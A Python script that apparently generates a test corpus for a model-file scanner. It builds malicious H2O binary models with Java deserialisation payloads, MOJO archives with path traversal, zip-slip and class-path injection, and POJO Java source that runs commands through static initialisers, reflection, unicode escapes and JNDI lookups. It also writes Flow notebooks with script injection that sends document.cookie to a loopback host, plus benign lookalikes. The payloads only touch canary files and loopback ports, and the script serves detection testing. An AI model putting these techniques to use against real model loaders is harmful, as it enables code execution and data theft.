"""Writes testdata/malicious/h2o and what of testdata/benign/h2o is made by hand: attacks.py MODELS PAYLOADS OUT

MODELS holds what train.py wrote (3.46.0.12, 3.46.0.6, 3.46.0.4), PAYLOADS what Payloads.java wrote, OUT is testdata. run.sh calls it. The payloads
write a file weir-canary, connect to a loopback port, read a decoy or exhaust the reader; verify.py sees them do it.
"""
import base64
import gzip
import hashlib
import io
import json
import os
import re
import sys
import zipfile

from autobuffer import File, number, text, texts

BOOK = []  # (folder, path, data, fields)


def model(name, version="3.46.0.12"):
    with open(os.path.join(MODELS, version, name), "rb") as f:
        return f.read()


def bad(path, data, technique, loader="h2o model", gives="execute", canary="file", note=""):
    BOOK.append(("malicious", "h2o/" + path, data, dict(technique=technique, family="h2o", loader=loader, fires=[], gives=gives, canary=canary, on=[], note=note)))


def good(path, data, kind, note, loader="none", version="3.46.0.12", expect="clean", made=True):
    BOOK.append(("benign", "h2o/" + path, data, dict(kind=kind, framework="h2o", version=version, python="", env="h2o-" + version, loader=loader, expect=expect,
                                                     hand_made=made, note=note)))


def payload(name):
    with open(os.path.join(PAYLOADS, name + ".ser"), "rb") as f:
        return f.read()


def with_stream(name, which, stream, version="3.46.0.12"):
    f = File(model(name, version))
    f.replace_stream(which, stream)
    return f.bytes()


def binaries():
    """The stream of a real field replaced."""
    for name, what in (
            ("read-object", "a class with a readObject of its own"), ("read-resolve", "a class with readResolve"), ("externalizable", "an Externalizable class"),
            ("enum", "an enumeration, whose class is initialised"), ("array", "the class as an element of an array"), ("typed-array", "an array of the class"),
            ("list", "the class in the ArrayList that belongs there, behind a number"), ("map-value", "the class as a value of a map"),
            ("hash-code", "a key whose hashCode HashMap calls"), ("compare", "a comparator that PriorityQueue calls"),
            ("handler", "a handler behind a dynamic proxy"), ("proxy-hash", "a proxy whose hashCode HashMap calls"), ("subclass-of-list", "a class that extends ArrayList"),
            ("bean", "BeanComparator of commons-beanutils, from H2O's own jar, calls a getter of the class"), ("class-object", "behind an object of type Class"),
            ("validation", "a class that registers a validation"), ("nested", "below thirty arrays"), ("no-such-class-first", "behind a class that an old jar may lack")):
        bad("field-%s.bin" % name, with_stream("pca.bin", 0, payload(name)), "PCA's training times: " + what)
    bad("field-rmi.bin", with_stream("pca.bin", 0, payload("rmi")), "a remote reference of the JDK: reading it connects", gives="network", canary="connect")
    bad("field-set-bomb.bin", with_stream("pca.bin", 0, payload("set-bomb")), "sets within sets that take 2^60 steps to read", gives="crash", canary="hang")
    canary = payload("read-object")
    for algo, streams in (("glm.bin", "_missing_values_handling of a GLM"), ("gam.bin", "_missing_values_handling of a GAM"), ("glrm.bin", "the history of a GLRM"),
                          ("svd.bin", "the training times of an SVD")):
        bad("field-of-%s" % algo, with_stream(algo, 0, canary), streams)
    bad("field-last-of-glrm.bin", with_stream("glrm.bin", len(File(model("glrm.bin")).streams()) - 1, canary), "only the last of several streams is replaced")
    bad("field-old.bin", with_stream("pca.bin", 0, canary, "3.46.0.4"), "in a model of 3.46.0.4")
    bad("field-middle.bin", with_stream("pca.bin", 0, canary, "3.46.0.6"), "in a model of 3.46.0.6")
    bad("grid.bin", with_stream("grid.bin", 0, canary), "a hyperparameter of a grid", loader="h2o grid")
    f = File(model("pca.bin"))
    start, at, n = f.streams()[0]
    f.body = f.body[:start] + b"\xfe" + len(canary).to_bytes(4, "little") + canary + f.body[at + n:]
    bad("field-long-length.bin", f.bytes(), "the length of the stream written in five bytes")
    bad("field-truncated.bin", with_stream("pca.bin", 0, payload("list") + b"")[:-200], "the file ends after the stream")
    bad("field-gzip.bin.gz", gzip.compress(with_stream("pca.bin", 0, canary), mtime=0), "the model in gzip", loader="gunzip > h2o model")
    z = io.BytesIO()
    with zipfile.ZipFile(z, "w", zipfile.ZIP_DEFLATED) as w:
        w.writestr(zipfile.ZipInfo("models/pca"), with_stream("pca.bin", 0, canary))
    bad("field-in-zip.zip", z.getvalue(), "the model in a zip file", loader="unzip > h2o model")


def roots():
    """The objects themselves."""
    def rooted(body, *names, base="pca.bin"):
        f = File(model(base))
        ids = {n: f.id(n) for n in names}
        f.body = body(ids, f)
        return f.bytes()
    canary = payload("read-object")
    stream = number(len(canary)) + canary
    bad("init-first.bin", rooted(lambda i, f: number(i["weir.Init01"]) + f.body, "weir.Init01"), "the first object is of a foreign class: it is initialised")
    bad("init-after-null.bin", rooted(lambda i, f: number(-1) + number(i["weir.Init02"]), "weir.Init02"), "no model, then a foreign class")
    bad("init-long-id.bin", rooted(lambda i, f: b"\xfe" + i["weir.Init03"].to_bytes(4, "little"), "weir.Init03"), "the number of the class in five bytes")
    bad("init-frozen.bin", rooted(lambda i, f: number(i["weir.Frozen01"]) + b"\0\0\0\0", "weir.Frozen01"), "a foreign class that H2O can serialise")
    f = File(model("pca.bin"))
    at = f.names.index("hex.pca.PCAModel")
    f.names[at] = "weir.Init04"
    bad("init-in-place-of-model.bin", f.bytes(), "the model's own class has another name in the list")
    f = File(model("gbm-regression.bin"))
    f.names[f.names.index("hex.tree.CompressedTree")] = "weir.Init05"
    bad("init-deep.bin", f.bytes(), "only the trees, far into the file, are of a foreign class")
    bad("init-in-job.bin", rooted(lambda i, f: number(i["water.Job"]) + number(i["weir.Init06"]), "water.Job", "weir.Init06"), "the key of a job is of a foreign class")
    bad("init-array.bin", rooted(lambda i, f: number(i["water.fvec.Frame"]) + number(i["weir.Init07"]), "water.fvec.Frame", "weir.Init07"), "the key of a frame is of a foreign class")
    bad("init-frame.bin", rooted(lambda i, f: number(i["weir.Init08"]), "weir.Init08"), "given to the import of frames", loader="h2o frame")
    bad("init-grid.bin", rooted(lambda i, f: number(i["weir.Init09"]), "weir.Init09"), "given to the import of grids", loader="h2o grid")
    small = b"\x1c\xed" + text("3.46.0.12") + texts([" BAD", "weir.Init10"]) + number(1)
    bad("init-smallest.bin", small, "nothing but a list of two classes and an object")
    small = b"\x1c\xed" + text("3.46.0.12") + texts([" BAD"] + [None] * 300 + ["weir.Init11"]) + number(301)
    bad("init-far.bin", small, "three hundred nulls before the class")
    # PartialDependence is no model, and its second field from the end of the columns is a list that is merely Serializable.
    key = number(4) + b"weir"
    part = lambda i: number(i["hex.PartialDependence"]) + lockable(i, key) + number(-1) + number(-1) + (0).to_bytes(8, "little") + number(-1)
    bad("root-no-model.bin", rooted(lambda i, f: part(i) + stream, "hex.PartialDependence", "water.Key"), "the first object is no model; its fields are read first")
    bad("array-before-itself.bin", rooted(lambda i, f: number(i["hex.SplitFrame$Frames"]) + lockable(i, key) + b"\xff" + (-5).to_bytes(2, "little", signed=True)
                                          + number(1) + number(10) + number(i["weir.Init12"]), "hex.SplitFrame$Frames", "water.Key", "weir.Init12"),
        "an array that begins at element -5: Java reads the element before it finds that out")
    f = File(model("pca.bin"))
    f.version = "3.46.0.13"
    f.replace_stream(0, canary)
    bad("version-next.bin", f.bytes(), "a version that weir does not know; servers of it would read it", loader="none", note="no server of this version is there to see it fire")
    bad("second-object.bin", rooted(lambda i, f: f.body[:-1] + part(i) + stream, "hex.PartialDependence", "water.Key"), "in the place of the cross-validation frame, behind a whole model")


def lockable(i, key):
    """The fields of water.Keyed: its key and a checksum; water.Lockable has none of its own."""
    return number(i["water.Key"]) + key + bytes(8)


def job():
    f = File(model("pca.bin"))
    ids = {n: f.id(n) for n in ("water.Job", "water.Key")}
    canary = payload("read-object")
    key = number(ids["water.Key"]) + number(4) + b"weir"
    lay = [("Ice", "_result"), ("4", "_typeid"), ("Str", "_description"), ("Z", "_recoverable"), ("Z", "_ready_for_view"), ("AStr", "_warns"), ("8", "_start_time"), ("8", "_end_time"),
           ("Z", "_stop_requested"), ("A1", "_ex")]
    body = number(ids["water.Job"]) + key + bytes(8)
    for code, name in lay:
        body += {"Ice": number(-1), "4": bytes(4), "Str": text("x"), "Z": b"\0", "AStr": number(-1), "8": bytes(8)}[code] if name != "_ex" else number(len(canary)) + canary
    f.body = body + bytes(24) + text("")
    bad("job-exception.bin", f.bytes(), "the exception of a job is a byte array that H2O reads as a Java object when somebody asks for the job", loader="h2o job")


# ---- MOJO

def mojo(name="gbm.mojo.zip"):
    with zipfile.ZipFile(io.BytesIO(model(name, "3.46.0.6"))) as z:
        return {n: z.read(n) for n in z.namelist()}


def zipped(members, links=()):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for n, data in members.items():
            info = zipfile.ZipInfo(n)
            if n in links:
                info.external_attr = 0o120777 << 16
                info.create_system = 3
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
    return out.getvalue()


def edited(old, new, name="gbm.mojo.zip", **more):
    m = mojo(name)
    ini = m["model.ini"].decode()
    assert re.search(old, ini), (old, ini)
    m["model.ini"] = re.sub(old, lambda _: new, ini, count=1).encode()
    m.update(more)
    return m


def classes(*names):
    with zipfile.ZipFile(os.path.join(PAYLOADS, "reader.jar")) as z:
        return {n: z.read(n) for n in z.namelist() if n.endswith(".class") and any(x in n for x in names)}


def mojos():
    secret = dict(loader="mojo folder", gives="file-read", canary="secret")
    bad("mojo-domain.zip", zipped(edited(r"2: 3 d000.txt", "2: 1 ../../weir-secret")), "the levels of a column come from a file above the model's folder", **secret)
    bad("mojo-domain-deep.zip", zipped(edited(r"2: 3 d000.txt", "2: 1 a/../../../weir-secret", **{"domains/a/x": b""})), "down one folder and up three", **secret)
    bad("mojo-domain-response.zip", zipped(edited(r"3: 2 d001.txt", "3: 1 ./.././../weir-secret")), "the classes of the response, with dots between", **secret)
    sub = mojo("ensemble.mojo.zip")
    sub = {n: d for n, d in sub.items() if not n.endswith("modelDetails.json")}
    inner = re.search(r"submodel_dir_0 = (.*)", sub["model.ini"].decode()).group(1)
    moved = {n: d for n, d in sub.items() if not n.startswith(inner)}
    moved["model.ini"] = sub["model.ini"].replace(("submodel_dir_0 = " + inner).encode(), b"submodel_dir_0 = ../outside/")
    bad("mojo-submodel.zip", zipped(moved), "a model of the ensemble is read from a folder beside it", loader="mojo folder", gives="file-read", canary="open",
        note="model.ini outside the folder is opened")
    hidden = dict(sub)
    low = inner + "model.ini"
    hidden[low] = re.sub(rb"(\d+): (\d+) d000.txt", rb"\1: 2 ../../../../../weir-secret", hidden[low], count=1)
    bad("mojo-inner-domain.zip", zipped(hidden), "the domain of a model inside an ensemble", loader="mojo folder", gives="file-read", canary="count",
        note="the reader finds one line in the decoy where it wants two")
    m = edited(r"2: 3 d000.txt", "2: 1 d000.txt")
    m["domains/d000.txt"] = b"../../weir-secret"
    bad("mojo-link.zip", zipped(m, {"domains/d000.txt"}), "a domain file that is a symbolic link", **secret)
    loop = {"model.ini": sub["model.ini"].replace(("submodel_dir_0 = " + inner).encode(), b"submodel_dir_0 = "), **{n: d for n, d in sub.items() if n.startswith("domains/")}}
    crash = dict(loader="mojo", gives="crash", canary="crash")
    bad("mojo-itself.zip", zipped(loop), "its first submodel is itself", **crash)
    bad("mojo-columns.zip", zipped(edited(r"n_columns = 4", "n_columns = 2147483646")), "two thousand million columns", **crash)
    bad("mojo-levels.zip", zipped(edited(r"2: 3 d000.txt", "2: 2147483646 d000.txt")), "two thousand million levels", **crash)
    bad("mojo-trees.zip", zipped(edited(r"n_trees = 2", "n_trees = 2147483000")), "two thousand million trees", **crash)
    service = {"META-INF/services/hex.genmodel.ModelMojoReader": b"weir.Reader\n", **classes("Reader", "Fire")}
    bad("mojo-service.zip", zipped(edited(r"algorithm = .*", "algorithm = Weir", **service)), "the MOJO brings its own reader, found when the MOJO lies on the class path", loader="mojo classpath")
    bad("mojo-service-known.zip", zipped({**mojo("xgboost.mojo.zip"), **{"META-INF/services/hex.genmodel.ModelMojoReader": b"weir.Reader\n"}, **classes("Reader", "Fire")}),
        "a reader offered for XGBoost, which H2O itself finds by services", loader="mojo classpath")
    jar = io.BytesIO()
    with zipfile.ZipFile(jar, "w") as z:
        for n, d in service.items():
            z.writestr(zipfile.ZipInfo(n), d)
    bad("mojo-jar.zip", zipped(edited(r"algorithm = .*", "algorithm = Weir", **{"lib/reader.jar": jar.getvalue()})), "a jar inside, for a class path of the unpacked folder", loader="mojo lib")
    twice = zipped(mojo())
    out = io.BytesIO(twice)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("model.ini"), edited(r"n_columns = 4", "n_columns = 2147483646")["model.ini"])
    bad("mojo-twice.zip", out.getvalue(), "two files model.ini, of which the last counts", **crash)
    bad("mojo-slip.zip", zipped({**mojo(), "../weir-canary": b""}), "a member that leaves the folder when it is unpacked as Java programs do", loader="unpack", gives="file-write", canary="file")


# ---- POJO

FIRE = 'java.nio.file.Files.write(java.nio.file.Paths.get("weir-canary"), new byte[0]);'
SAFE = "try { %s } catch (Exception e) { }"


def pojos():
    source = model("gbm.java", "3.46.0.6").decode()
    name = re.search(r"public class (\w+)", source).group(1)
    source = source.replace(name, "weir_gbm")

    def pojo(path, technique, member="", imports="", scored="", after="", change=None, **more):
        s = source.replace("import java.util.Map;", "import java.util.Map;" + imports)
        s = s.replace("public boolean isSupervised()", member + "\n  public boolean isSupervised()", 1)
        s = s.replace("java.util.Arrays.fill(preds,0);", "java.util.Arrays.fill(preds,0); " + scored, 1) + after
        if change:
            s = change(s)
        bad("pojo-%s/weir_gbm.java" % path, s.encode(), technique, loader="pojo", **more)

    t = lambda code: "try { %s } catch (Throwable e) { }" % code
    touch = '"touch", "weir-canary"'
    pojo("static", "a static initialiser writes a file", "static { %s }" % t(FIRE))
    pojo("instance", "an initialiser of the object runs a program", "{ %s }" % t("new ProcessBuilder(%s).start().waitFor();" % touch))
    pojo("constructor", "the constructor runs a program", change=lambda s: s.replace('super(NAMES,DOMAINS,"label");', 'super(NAMES,DOMAINS,"label"); ' + t('Runtime.getRuntime().exec("touch weir-canary").waitFor();')))
    pojo("field", "the value of a field", "static final Object X = weir(); static Object weir() { %s return null; }" % t("Runtime.getRuntime().exec(new String[] {%s}).waitFor();" % touch))
    pojo("score", "in score0, when it predicts", scored=t(FIRE))
    pojo("helper", "in a class beside the model", scored="Weir_Helper.f();", after="\nclass Weir_Helper { static void f() { %s } }\n" % t(FIRE))
    pojo("reflection", "by reflection, the names put together from pieces", "static { %s }" % t(
        'Object r = Class.forName("java.lang.Run" + "time").getMethod("getRun" + "time").invoke(null); r.getClass().getMethod("exec", String.class).invoke(r, "touch weir-canary"); Thread.sleep(500);'))
    pojo("escapes", "every letter that matters is a unicode escape", "static { %s }" % t("R\\u0075n\\u0074ime.getR\\uuu0075ntime().e\\u0078ec(\"touch weir-canary\").waitFor();"))
    pojo("comment-escape", "an escaped line feed ends the comment", "// a comment \\u000a static { %s }" % t(FIRE))
    pojo("whole-escaped", "the whole line is escapes", "".join("\\u%04x" % ord(c) for c in "static { %s }" % t(FIRE)))
    pojo("static-import", "a static import hides whose method it is", "static { %s }" % t('getRuntime().exec("touch weir-canary").waitFor();'), "import static java.lang.Runtime.getRuntime;")
    pojo("on-demand", "an import on demand", "static { %s }" % t("Files.write(Paths.get(\"weir-canary\"), new byte[0]);"), "import java.nio.file.*;")
    pojo("method-reference", "a method reference", "static { %s }" % t(
        'java.util.function.Function<String, java.nio.file.Path> f = java.nio.file.Paths::get; new java.io.FileOutputStream(f.apply("weir-canary").toFile()).close();'))
    pojo("lambda", "a lambda in a thread of its own", "{ %s }" % t("Thread t = new Thread(() -> { %s }); t.start(); t.join();" % t(FIRE)))
    pojo("anonymous", "a class without a name", "static Object o = new Object() { { %s } };" % t(FIRE))
    pojo("class-loader", "a class loader of its own takes a class from bytes", "static { %s }" % t(
        'new ClassLoader() { Class<?> f(byte[] b) { return defineClass(null, b, 0, b.length); } }.f(java.util.Base64.getDecoder().decode("%s")).getDeclaredConstructor().newInstance();' % CLASS64))
    pojo("deserialise", "a Java object stream in a string", "static { %s }" % t(
        'new java.io.ObjectInputStream(new java.io.ByteArrayInputStream(java.util.Base64.getDecoder().decode("%s"))).readObject();' % STREAM64))
    pojo("network", "opens a connection", "static { %s }" % t('new java.net.Socket("127.0.0.1", PORT).close();'.replace("PORT", "54997")), gives="network", canary="connect")
    pojo("property", "turns the import of POJOs on for the whole server", "static { System.setProperty(\"weir.fired\", \"yes\"); }", gives="environment", canary="property")
    pojo("exit", "ends the process", "static { System.exit(77); }", gives="crash", canary="exit")
    pojo("resource", "reads a file of the user", "static { %s }" % t('new java.util.Scanner(new java.io.File("weir-secret")).next(); ' + FIRE), gives="file-read")
    pojo("nested-class", "in the holder of the column names", change=lambda s: s.replace("static final void fill(String[] sa) {", "static final void fill(String[] sa) { %s" % t(FIRE), 1))
    pojo("hidden-name", "a variable elsewhere has the name of a package", "static { %s }" % t('java.lang.Runtime.getRuntime().exec("touch weir-canary").waitFor();') + " int f() { int java = 1; return java; }")
    pojo("jndi", "looks up a remote object", "static { %s }" % t('new javax.naming.InitialContext().lookup("rmi://127.0.0.1:54997/x");'), gives="network", canary="connect")
    pojo("accessor", "in getUUID, which H2O calls when it imports the model", change=lambda s: s.replace("public String getUUID() {", "public String getUUID() { %s" % t(FIRE)))
    pojo("long-comment", "behind forty kilobytes of comment", "static { %s }" % t(FIRE), change=lambda s: "/*" + " weir\n" * 8000 + "*/\n" + s)
    pojo("crlf", "with the line ends of Windows and text blocks of quotes", "static { String s = \"\"\"\n  // \\\" \"\"\"; %s }" % t(FIRE), change=lambda s: s.replace("\n", "\r\n"))


def flows():
    def flow(*cells):
        return json.dumps({"version": "1.0.0", "cells": [{"type": k, "input": v} for k, v in cells]}, indent=1).encode()
    bad("flow-markdown.flow", flow(("md", "# Results\n<img src=x onerror=\"fetch('http://127.0.0.1:54997/')\">")), "HTML in a cell of text", loader="none", gives="execute",
        note="Flow shows it when the notebook opens; no browser is run here")
    bad("flow-script.flow", flow(("cs", "assist"), ("html", "<script src='http://127.0.0.1:54997/x.js'></script>")), "a cell of HTML", loader="none", note="no browser is run here")
    bad("flow-javascript.flow", flow(("cs", "`window.open('http://127.0.0.1:54997/' + document.cookie)`")), "JavaScript between backticks", loader="none", note="no browser is run here")
    bad("flow-import-model.flow", flow(("cs", "importModel \"/tmp/evil\"")), "loads a binary model", loader="none", note="no browser is run here")
    bad("flow-run-script.flow", flow(("cs", "runScript 'evil'")), "runs another script", loader="none", note="no browser is run here")
    good("flow/train.flow", flow(("md", "# Train a model\nThe data has 3 columns, a < b."), ("cs", "importFiles [ \"data/train.csv\" ]"), ("cs", "setupParse source_frames: [ \"train.csv\" ]"),
                                 ("cs", "buildModel 'gbm', {\"model_id\":\"gbm-1\",\"training_frame\":\"train.hex\",\"response_column\":\"label\",\"ntrees\":50}"), ("cs", "getModel \"gbm-1\"")),
         "h2o-flow", "imports, parses, builds", expect="skipped")
    good("flow/predict.flow", flow(("h1", "Predictions"), ("cs", "predict model: \"gbm-1\", frame: \"test.hex\""), ("cs", "getFrameSummary \"test.hex\"")), "h2o-flow", "predicts",
         expect="skipped")
    good("flow/automl.flow", flow(("md", "AutoML, see **the documentation** [here](https://docs.h2o.ai/)"), ("cs", "runAutoML {\"input_spec\":{\"training_frame\":\"train.hex\"}}"), ("cs", "getLeaderboard")),
         "h2o-flow", "AutoML and a link", expect="skipped")


def lookalikes():
    """Honest, or without effect: what looks like an attack and is none."""
    canary = payload("read-object")
    f = File(model("xgboost.bin"))
    # The booster of XGBoost is a byte array that no one reads as a Java object.
    at = f.body.index(b"binf") if b"binf" in f.body else f.body.index(b"learner")
    body = bytearray(f.body)
    body[at + 40:at + 40 + len(canary)] = canary
    f.body = bytes(body)
    good("lookalike/stream-in-booster.bin", f.bytes(), "h2o-binary", "a Java stream in a byte array that is not read as one")
    good("lookalike/old-names.bin", model("pca.bin", "3.46.0.4"), "h2o-binary", "a model of an older version", version="3.46.0.4", made=False)
    source = model("gbm.java", "3.46.0.6").decode()
    good("lookalike/pojo-comments.java", source.replace("// Names of columns used by model.", "// Runtime.getRuntime().exec(\"id\") is what this model does not do: \\u0041\n  /* static { System.exit(1); } */", 1).encode(),
         "h2o-pojo", "dangerous names in comments", version="3.46.0.6")
    good("lookalike/pojo-strings.java", re.sub(r'"(no|yes)"', r'"java.lang.Runtime.getRuntime().\1"', source).encode(), "h2o-pojo", "dangerous names as levels of a column", version="3.46.0.6")
    good("lookalike/pojo-helper.java", source.replace("java.util.Arrays.fill(preds,0);", "java.util.Arrays.fill(preds,0); double s = StrictMath.abs(data[0]); String t = String.valueOf(s).trim();", 1).encode(),
         "h2o-pojo", "more arithmetic and text, added by hand", version="3.46.0.6")
    good("lookalike/Plain.java", b"package example;\n\nimport java.io.File;\n\n/** Not a model at all. */\npublic class Plain {\n  static void run() throws Exception {\n    Runtime.getRuntime().exec(new File(\"x\").getPath());\n  }\n}\n",
         "java-source", "Java that is no model", expect="skipped")
    m = mojo()
    m["experimental/README.md"] = b"Do not run: <script>alert(1)</script> or java.lang.Runtime"
    good("lookalike/mojo-readme.zip", zipped(m), "h2o-mojo", "script in a text that nobody shows", version="3.46.0.6")
    m = edited(r"2: 3 d000.txt", "2: 3 ../domains/d000.txt")
    good("lookalike/mojo-dots.zip", zipped(m), "h2o-mojo", "dots that stay inside the folder", version="3.46.0.6")
    m = mojo()
    m["domains/d000.txt"] = "<b>\ncafé.class\n../../x\n".encode()
    good("lookalike/mojo-levels.zip", zipped(m), "h2o-mojo", "levels that look like names of files and HTML", version="3.46.0.6")


def real():
    """What train.py wrote, as it is."""
    big = 70_000
    for version, names in (("3.46.0.12", None), ("3.46.0.6", ("gbm.bin", "glm.bin", "glrm.bin", "grid.bin", "frame.bin")), ("3.46.0.4", ("drf.bin", "gam.bin", "kmeans.bin", "svd.bin"))):
        folder = os.path.join(MODELS, version)
        for name in sorted(os.listdir(folder)):
            data = model(name, version)
            if name.endswith(".bin") and (names is None or name in names) and len(data) <= big:
                good("%s/%s" % (version, name), data, "h2o-binary", "", "h2o.load_model", version, made=False)
    for name in sorted(os.listdir(os.path.join(MODELS, "3.46.0.6"))):
        data = model(name, "3.46.0.6")
        if name.endswith(".mojo.zip") and len(data) <= 90_000:
            good("mojo/" + name, data, "h2o-mojo", "", "MojoModel.load", "3.46.0.6", made=False)
        if name.endswith(".java") and len(data) <= 20_000:
            good("pojo/" + name, data, "h2o-pojo", "", "javac", "3.46.0.6", made=False)


def main():
    for family in (binaries, roots, job, mojos, pojos, flows, lookalikes, real):
        family()
    for corpus in ("malicious", "benign"):
        top = os.path.join(OUT, corpus)
        manifest = os.path.join(top, "h2o", "manifest.json")
        old = {}
        if os.path.exists(manifest):
            with open(manifest) as f:
                old = {e["path"]: e for e in json.load(f)}
        entries = []
        for where, path, data, fields in sorted(BOOK, key=lambda b: b[1]):
            if where != corpus:
                continue
            full = os.path.join(top, path)
            os.makedirs(os.path.dirname(full), exist_ok=True)
            with open(full, "wb") as f:
                f.write(data)
            e = dict(path=path, sha256=hashlib.sha256(data).hexdigest(), **fields)
            was = old.get(path)
            if was and was["sha256"] == e["sha256"] and was["loader"] == e["loader"] and corpus == "malicious":
                e["fires"] = was["fires"]
                if "accepted_by" in was:
                    e["accepted_by"] = was["accepted_by"]
            entries.append(e)
        known = {e["path"] for e in entries} | {"h2o/manifest.json"}
        for base, _, files in os.walk(os.path.join(top, "h2o")):
            for name in files:
                if os.path.relpath(os.path.join(base, name), top) not in known:
                    os.remove(os.path.join(base, name))
        with open(manifest, "w") as f:
            f.write("[\n" + ",\n".join(json.dumps(e) for e in entries) + "\n]\n")
        print("%s: %d files, %d bytes" % (corpus, len(entries), sum(len(b[2]) for b in BOOK if b[0] == corpus)))


MODELS, PAYLOADS, OUT = sys.argv[1:4]
with open(os.path.join(PAYLOADS, "Loaded.class"), "rb") as f:
    CLASS64 = base64.b64encode(f.read()).decode()
STREAM64 = base64.b64encode(payload("read-object")).decode()
main()
